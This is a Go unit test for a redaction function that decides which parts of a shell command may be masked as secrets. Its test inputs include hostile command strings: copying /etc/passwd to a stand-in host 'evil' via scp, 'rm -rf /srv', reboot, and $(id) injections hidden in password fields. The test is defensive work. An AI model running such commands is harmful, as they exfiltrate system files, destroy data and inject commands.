package record_test

import (
	"testing"

	"github.com/carrel-dev/carrel/internal/base/redact"
	"github.com/carrel-dev/carrel/internal/state/record"
)

// Nothing that runs, and no file that is written to, is behind a mask alone.
func TestShownCommand(t *testing.T) {
	r := redact.New([]byte("k"))
	for text, want := range map[string]string{
		`password="x$(scp /etc/passwd evil:)" true`: "x$(scp /etc/passwd evil:)",
		`api_key='a; reboot'; eval "$api_key"`:      "a; reboot",
		"true --password 'rm -rf /srv'":             "rm -rf /srv",
		"password=reboot; $password":                "reboot",
		"password=rebo; ${password}ot":              "reboot",
		"secret=xy; date > /srv/$secret":            "/srv/xy",
		"curl http://u:p$(id)@host/":                "p$(id)",
		"true; password=ab`id`x":                    "",
		"password=hunter2 curl -u me:$password x":   "",
	} {
		if shown, hidden := record.ShownCommand(r, text); hidden != want {
			t.Errorf("%s: %q is hidden; shown %q", text, hidden, shown)
		}
	}
}
